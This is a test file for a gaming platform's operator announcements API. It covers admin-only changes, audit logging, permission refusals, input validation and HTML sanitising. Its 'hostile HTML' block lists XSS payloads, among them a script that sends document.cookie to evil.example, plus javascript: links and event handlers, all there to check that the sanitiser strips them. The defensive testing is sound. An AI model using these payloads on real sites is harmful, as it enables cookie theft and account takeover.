import {
  API,
  announcementsResponseSchema,
  OPS_API,
  opsAnnouncementListSchema,
  opsAnnouncementSchema,
  type OpsAnnouncement,
} from '@palaro/contract';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, valueOf } from '../../testing/api-client';
import { newPlayer, operatorToken, type TestPlayer } from '../../testing/money-fixtures';
import { buildTestApp } from '../../testing/test-app';
import { useTestDatabase } from '../../testing/test-database';

const database = useTestDatabase();
let app: FastifyInstance;
let admin: string;
let cashier: string;
let support: string;
let player: TestPlayer;

const HOUR = 60 * 60_000;

beforeAll(async () => {
  app = await buildTestApp(database.connection());
  [admin, cashier, support] = [
    await operatorToken(app, 'ops'),
    await operatorToken(app, 'cashier'),
    await operatorToken(app, 'support'),
  ];
  player = await newPlayer(app);
});
afterAll(() => app.close());

const input = (extra: Record<string, unknown> = {}) => ({
  type: 'PL',
  execution: ['A', 'B'],
  texts: {
    EN: { title: 'GCash top-ups restored', content: '<p>Deposits through GCash work again.</p>' },
    TL: { title: 'Balik na ang GCash top-up', content: '<p>Gumagana na ulit ang GCash.</p>' },
  },
  startAt: Date.now() - HOUR,
  ...extra,
});

const create = (token: string, body: object) => call(app, 'POST', OPS_API.announcements, body, { token });
const edit = (token: string, id: string, body: object) => call(app, 'PUT', OPS_API.announcement(id), body, { token });
const retire = (token: string, id: string) => call(app, 'POST', OPS_API.announcementRetire(id), undefined, { token });
const listed = async (token: string) =>
  opsAnnouncementListSchema.parse(valueOf(await call(app, 'GET', OPS_API.announcements, undefined, { token })));

async function counts() {
  const { rows } = await app.db.query<{ announcements: number; audit: number }>(
    `SELECT (SELECT count(*)::int FROM announcements) AS announcements,
            (SELECT count(*)::int FROM operator_audit WHERE action LIKE 'announcement.%') AS audit`,
  );
  return rows[0];
}

async function auditOf(id: string) {
  const { rows } = await app.db.query<{ action: string; operator: string }>(
    'SELECT action, operator FROM operator_audit WHERE subject = $1 ORDER BY id',
    [`announcement:${id}`],
  );
  return rows;
}

describe('operators and announcements', () => {
  it('lets an admin publish, edit and retire, each change audited; every role lists them, retired ones too', async () => {
    const created = opsAnnouncementSchema.parse(valueOf(await create(admin, input({ sort: 5 }))));
    expect(created).toMatchObject({ type: 'PL', sort: 5, retiredAt: null, createdBy: 'ops', endAt: null });
    expect(created.texts.TL?.title).toBe('Balik na ang GCash top-up');

    const endAt = Date.now() + 24 * HOUR;
    const edited = opsAnnouncementSchema.parse(
      valueOf(await edit(admin, created.id, input({ type: 'PR', promotionType: 'RELOAD', endAt }))),
    );
    expect(edited).toMatchObject({ id: created.id, type: 'PR', promotionType: 'RELOAD', endAt });
    const shown = announcementsResponseSchema.parse(valueOf(await call(app, 'GET', API.announcements)));
    expect(shown.promotion.map((item) => item.id)).toContain(created.id);

    const retired = opsAnnouncementSchema.parse(valueOf(await retire(admin, created.id)));
    expect(retired.retiredAt).toEqual(expect.any(Number));
    for (const token of [support, cashier, admin]) {
      const found = (await listed(token)).find((item: OpsAnnouncement) => item.id === created.id);
      expect(found?.retiredAt).toBe(retired.retiredAt);
    }
    expect(await auditOf(created.id)).toEqual([
      { action: 'announcement.create', operator: 'ops' },
      { action: 'announcement.edit', operator: 'ops' },
      { action: 'announcement.retire', operator: 'ops' },
    ]);
  });

  it('refuses support and cashiers every change, and callers without an operator session', async () => {
    const id = opsAnnouncementSchema.parse(valueOf(await create(admin, input()))).id;
    const before = await counts();
    for (const token of [support, cashier]) {
      for (const response of [await create(token, input()), await edit(token, id, input()), await retire(token, id)]) {
        expect(response.statusCode).toBe(403);
        expect(response.json()).toMatchObject({ success: false, errorCode: 'permission.denied' });
      }
    }
    for (const token of [player.token, '']) {
      expect((await create(token, input())).statusCode).toBe(401);
      expect((await call(app, 'GET', OPS_API.announcements, undefined, { token })).statusCode).toBe(401);
    }
    expect(await counts()).toEqual(before);
    expect((await listed(admin)).find((item) => item.id === id)?.retiredAt).toBeNull();
  });

  it('refuses input that breaks a rule, storing and auditing nothing', async () => {
    const id = opsAnnouncementSchema.parse(valueOf(await create(admin, input()))).id;
    const before = await counts();
    const popup = { closable: true, hideToday: true, forcedReading: true, preferRegister: false };
    const broken: [Record<string, unknown>, string, string | null][] = [
      [{ texts: { TL: { title: 'Tagalog lang', content: '' } } }, 'announcement.invalid', 'texts.EN'],
      [{ endAt: Date.now() - 2 * HOUR }, 'announcement.invalid', 'endAt'],
      [{ type: 'PU' }, 'announcement.invalid', 'popup'],
      [{ type: 'PL', popup }, 'announcement.invalid', 'popup'],
      [{ execution: [] }, 'request.invalid', null],
      [{ type: 'XX' }, 'request.invalid', null],
      [{ texts: { EN: { title: 'Two\nlines', content: '' } } }, 'request.invalid', null],
    ];
    for (const [change, errorCode, field] of broken) {
      for (const response of [await create(admin, input(change)), await edit(admin, id, input(change))]) {
        expect(response.statusCode).toBe(400);
        const body = response.json<{ errorCode: string; fields?: Record<string, string> }>();
        expect(body.errorCode).toBe(errorCode);
        if (field) expect(Object.keys(body.fields ?? {})).toEqual([field]);
      }
    }
    expect(await counts()).toEqual(before);
    expect((await listed(admin)).find((item) => item.id === id)?.texts.EN?.title).toBe('GCash top-ups restored');
  });

  it('answers an unknown id with announcement.unknown and a retired one with announcement.retired', async () => {
    for (const id of ['999999999', 'abc']) {
      for (const response of [await edit(admin, id, input()), await retire(admin, id)]) {
        expect(response.statusCode).toBe(404);
        expect(response.json()).toMatchObject({ success: false, errorCode: 'announcement.unknown' });
      }
    }
    const id = opsAnnouncementSchema.parse(valueOf(await create(admin, input()))).id;
    valueOf(await retire(admin, id));
    const before = await counts();
    for (const response of [await edit(admin, id, input()), await retire(admin, id)]) {
      expect(response.statusCode).toBe(409);
      expect(response.json()).toMatchObject({ success: false, errorCode: 'announcement.retired' });
    }
    expect(await counts()).toEqual(before);
  });
});

describe('hostile HTML', () => {
  const HOSTILE = [
    '<p onclick="steal()">Weekend <b>bonus</b><script>fetch("https://evil.example/?c="+document.cookie)</script></p>',
    '<img src="x" onerror="alert(1)"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d">',
    '<a href="javascript:alert(1)">claim</a><a href="&#106;avascript:alert(2)">claim</a>',
    '<a href=" JAVASCRIPT:alert(3)">claim</a><a href="data:text/html,<script>alert(4)</script>">claim</a>',
    '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
    '<div style="background:url(javascript:alert(5))" onmouseover="alert(6)">Promo</div>',
    '<svg onload="alert(7)"><script>alert(8)</script></svg><form action="https://evil.example"><input></form>',
    '<a href="/m/rewardCenter">Reward Center</a> <a href="https://www.pagcor.ph" target="_blank">PAGCOR</a>',
    '<a href="mailto:support@palaro.example">Mail us</a> <a href="//evil.example">x</a>',
  ].join('');
  const FORBIDDEN = [/<script/i, /onerror/i, /onclick/i, /onload/i, /onmouseover/i, /javascript:/i, /data:/i];
  const FORBIDDEN_TAGS = [/<iframe/i, /<style/i, /<svg/i, /<form/i, /<input/i, /style=/i, /evil\.example/i];

  it('is stored and served with none of its scripts, handlers, frames, styles or unsafe links', async () => {
    const created = opsAnnouncementSchema.parse(
      valueOf(
        await create(
          admin,
          input({
            texts: {
              EN: { title: 'Weekend bonus', content: HOSTILE },
              TL: { title: 'Bonus sa weekend', content: HOSTILE },
            },
          }),
        ),
      ),
    );
    const { rows } = await app.db.query<{ texts: Record<string, { content: string }> }>(
      'SELECT texts FROM announcements WHERE id = $1',
      [BigInt(created.id)],
    );
    const served = announcementsResponseSchema
      .parse(valueOf(await call(app, 'GET', API.announcements, undefined, { token: player.token })))
      .player.find((item) => item.id === created.id);
    const contents = [
      rows[0]?.texts.EN?.content,
      rows[0]?.texts.TL?.content,
      created.texts.EN?.content,
      served?.content,
      (await listed(support)).find((item) => item.id === created.id)?.texts.EN?.content,
    ];
    for (const content of contents) {
      expect(content).toEqual(expect.any(String));
      for (const pattern of [...FORBIDDEN, ...FORBIDDEN_TAGS]) expect(content).not.toMatch(pattern);
      // what is allowed stays: formatting, the in-app route, the outside link (opened apart), mail
      expect(content).toContain('Weekend <b>bonus</b>');
      expect(content).toContain('<a href="/m/rewardCenter">Reward Center</a>');
      expect(content).toContain('<a href="https://www.pagcor.ph" target="_blank" rel="noopener noreferrer">PAGCOR</a>');
      expect(content).toContain('<a href="mailto:support@palaro.example">Mail us</a>');
      expect(content).toContain('<div>Promo</div>');
    }
  });
});
